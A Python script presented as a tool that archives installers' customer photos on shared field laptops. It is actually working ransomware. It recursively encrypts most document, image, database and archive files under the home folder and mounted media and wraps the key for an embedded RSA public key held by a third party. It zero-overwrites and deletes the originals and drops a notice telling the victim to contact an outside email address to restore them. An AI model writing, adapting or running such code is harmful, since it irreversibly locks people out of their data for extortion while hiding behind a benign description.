#!/usr/bin/env python3
"""Archive install-job photos and paperwork at rest on shared field laptops.

Field laptops move between installers, and customer photos (floor plans,
door cut-outs, house numbers) must not be readable by the next user.  This
walks the laptop's document folders, seals each photo/document with AES-GCM
under a per-run key, and wraps that key for the PawGate records office so
only the office can reopen the archive.  Plain copies are cleared once
sealed.
"""
import argparse
import json
import logging
import os
import secrets
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("photo-archive")

SEALED_EXT = ".pgsec"
ARCHIVE_EXT = {
    ".jpg", ".jpeg", ".png", ".heic", ".webp", ".pdf", ".doc", ".docx",
    ".xls", ".xlsx", ".odt", ".ods", ".csv", ".txt", ".zip", ".psd", ".mp4",
    ".mov", ".sqlite", ".db", ".pptx", ".key", ".pages",
}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", "__pycache__", "snap"}

RECORDS_OFFICE_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAs3tPVBza4tw1i1V69XSW
LeOwDIC20RYIvKgiNQC6RXerILrPXDcAMOBGHq9nfSDxeGIH67HEIj+H4xBwGpe/
jhp6Xq5mHRweiliYOAVYYlUwYjl81k52q+XG2Vzx7isBliE2O+GN8JMohV25lVV9
EwSgvx1Wtao6rLjThev6Wfah7JQDtEioLgiN+l/l2SmsgsuFZ57L8AeV+E1Aqjyk
USd0DksXaRQ7x5ccJTibAg3oygtL90o3UrH4g+KZaCb43TIfsiIrZr6pR/Qp56WO
K3Z+RHEp+kGhn6JPxnfnKFHjg6882PUxMwgo7cLnXAOvsynHirRR6JONy2xINe6i
wwIDAQAB
-----END PUBLIC KEY-----
"""

NOTICE = """This laptop's job files were archived on handover (archive id {aid}).
To restore them, contact records@pawgate-cloud.io quoting the archive id.
"""


class PhotoSet:
    """Every archivable file under the roots, largest first."""

    def __init__(self, roots, exts=ARCHIVE_EXT):
        self.roots = [Path(r).expanduser() for r in roots]
        self.exts = exts

    def _walk(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in self.exts and p.is_file() and not p.is_symlink():
                        yield p

    def __iter__(self):
        return iter(sorted(self._walk(), key=lambda p: p.stat().st_size, reverse=True))


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aes = AESGCM(self._key)
        self.archive_id = uuid.uuid4().hex[:12]

    def wrapped_key(self):
        pub = serialization.load_pem_public_key(RECORDS_OFFICE_KEY)
        return pub.encrypt(self._key, padding.OAEP(
            mgf=padding.MGF1(algorithm=hashes.SHA256()), algorithm=hashes.SHA256(), label=None))

    def forget(self):
        self._key = None
        self._aes = None

    def seal(self, path):
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + self._aes.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SEALED_EXT)
        with open(out, "wb") as fh:
            fh.write(blob)
            fh.flush()
            os.fsync(fh.fileno())
        self._clear(path, len(data))
        return len(data)

    @staticmethod
    def _clear(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def default_roots():
    home = Path.home()
    return [home] + [Path(m) for m in ("/media", "/mnt") if os.access(m, os.R_OK)]


def main(argv=None):
    ap = argparse.ArgumentParser(description="Archive job files on a field laptop before handover")
    ap.add_argument("roots", nargs="*", help="folders to archive (default: home and mounted media)")
    ap.add_argument("-j", "--jobs", type=int, default=min(8, (os.cpu_count() or 2) * 2))
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    sealer = Sealer()
    files = list(PhotoSet(roots))
    log.info("archiving %d files under %s", len(files), ", ".join(map(str, roots)))

    done = failed = total = 0
    with ThreadPoolExecutor(max_workers=args.jobs) as pool:
        futures = {pool.submit(sealer.seal, p): p for p in files}
        for fut in as_completed(futures):
            try:
                total += fut.result()
                done += 1
            except (OSError, MemoryError) as exc:
                failed += 1
                log.debug("skip %s: %s", futures[fut], exc)

    for root in roots:
        try:
            (root / "RECORDS_KEY.bin").write_bytes(sealer.wrapped_key())
            (root / "ARCHIVE_NOTICE.txt").write_text(NOTICE.format(aid=sealer.archive_id))
        except OSError:
            continue
    sealer.forget()
    summary = {"archive_id": sealer.archive_id, "files": done, "failed": failed, "bytes": total}
    print(json.dumps(summary))
    return 0 if done else 1


if __name__ == "__main__":
    sys.exit(main())
